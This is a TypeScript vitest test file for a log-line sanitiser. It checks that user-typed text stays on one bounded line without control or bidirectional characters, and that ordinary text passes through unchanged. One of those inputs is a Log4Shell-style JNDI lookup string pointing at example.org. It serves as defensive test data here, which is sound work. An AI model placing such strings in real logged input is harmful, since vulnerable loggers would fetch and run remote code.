/** What people type cannot break out of its line, in the journal or in the log (case Y-07). */
import { expect, test } from 'vitest'
import { hostileTexts } from '../../cast/hostile-texts.ts'
import { longestText, plainLine } from './plain.ts'

test.each(Object.entries(hostileTexts))('%s stays one line of bounded length', (_, text) => {
  const plain = plainLine(text)
  expect(plain.split(/\r\n|[\n\v\f\r\u0085\u2028\u2029]/)).toHaveLength(1)
  expect(plain.length).toBeLessThanOrEqual(longestText)
  expect(plain).not.toMatch(/[\p{Cc}\p{Cs}\u202A-\u202E\u2066-\u2069]/u)
  expect(JSON.parse(JSON.stringify({ plain }))).toEqual({ plain })
})

test('words are kept as they were typed', () => {
  for (const text of ['Åse Hætta-Ørsted 😀', '${jndi:ldap://example.org/a}', '{"a": 1}', ''])
    expect(plainLine(text)).toBe(text)
})
